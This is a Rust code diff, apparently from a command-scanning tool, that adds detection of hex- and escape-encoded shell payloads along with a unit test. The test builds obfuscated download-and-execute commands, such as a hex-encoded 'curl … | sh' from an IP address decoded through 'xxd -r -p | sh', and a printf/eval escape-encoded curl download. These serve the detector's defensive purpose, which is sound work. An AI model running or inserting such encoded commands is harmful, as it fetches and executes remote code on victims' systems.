@@ -256,6 +256,44 @@ fn inflate(b: &[u8]) -> Option<Vec<u8>> {
         .or_else(|| zlib(b, MAX_DECODED).ok())
 }
 
+static HEX_RUN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b(?:[0-9A-Fa-f]{2}){12,}\b").expect("static regex"));
+static ESCAPED_RUN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?:\\x[0-9A-Fa-f]{2}|\\[0-7]{3}){6,}").expect("static regex"));
+
+/// Hex runs (`echo 6375726c… | xxd -r -p`) and `\xNN` / octal escape runs (`printf '\x63\x75…'`,
+/// `$'\x63…'`) that decode to text. Hashes and GUIDs do not: they decode to binary.
+fn decode_hex_like(text: &str, push: &mut impl FnMut(String)) {
+    for m in HEX_RUN.find_iter(text).take(32) {
+        let h = m.as_str();
+        let bytes: Option<Vec<u8>> = (0..h.len())
+            .step_by(2)
+            .map(|i| u8::from_str_radix(&h[i..i + 2], 16).ok())
+            .collect();
+        if let Some(s) = bytes.as_deref().and_then(bytes_to_text) {
+            push(s);
+        }
+    }
+    for m in ESCAPED_RUN.find_iter(text).take(32) {
+        let e = m.as_str().as_bytes();
+        let mut bytes = Vec::with_capacity(e.len() / 4);
+        let mut i = 0;
+        while i < e.len() {
+            // Every unit is a backslash and three more characters: `xNN` or `NNN` (octal).
+            let unit = std::str::from_utf8(&e[i + 1..i + 4]).unwrap_or("");
+            let b = match unit.strip_prefix('x') {
+                Some(h) => u8::from_str_radix(h, 16).ok(),
+                None => u8::from_str_radix(unit, 8).ok(),
+            };
+            bytes.extend(b);
+            i += 4;
+        }
+        if let Some(s) = bytes_to_text(&bytes) {
+            push(s);
+        }
+    }
+}
+
 static B64_RUN: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{24,}={0,2}").expect("static regex"));
 
@@ -305,6 +343,7 @@ pub fn decode_layer(text: &str) -> Vec<String> {
             push(s, &mut out);
         }
     }
+    decode_hex_like(text, &mut |s| push(s, &mut out));
     out
 }
 
@@ -719,6 +758,27 @@ mod tests {
         assert_eq!(
             split_args(r#""C:\Program Files\x.exe" -a "b c" d"#),
             vec![r"C:\Program Files\x.exe", "-a", "b c", "d"]
+        );
+    }
+
+    #[test]
+    fn hex_and_escaped_payloads_decode() {
+        let hex: String = b"curl -fsSL http://103.85.24.1/r.sh | sh"
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect();
+        let d = decoded(&format!("sh -c \"echo {hex} | xxd -r -p | sh\""));
+        assert!(d.contains("http://103.85.24.1/r.sh"), "{d}");
+        let esc: String = b"curl -o /tmp/x http://h.example/x"
+            .iter()
+            .map(|b| format!("\\x{b:02x}"))
+            .collect();
+        let d = decoded(&format!("bash -c \"eval \\\"$(printf '{esc}')\\\"\""));
+        assert!(d.contains("curl -o /tmp/x"), "{d}");
+        // A SHA-256 is hex but not text.
+        assert_eq!(
+            decoded("sha256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
+            ""
         );
     }
 }
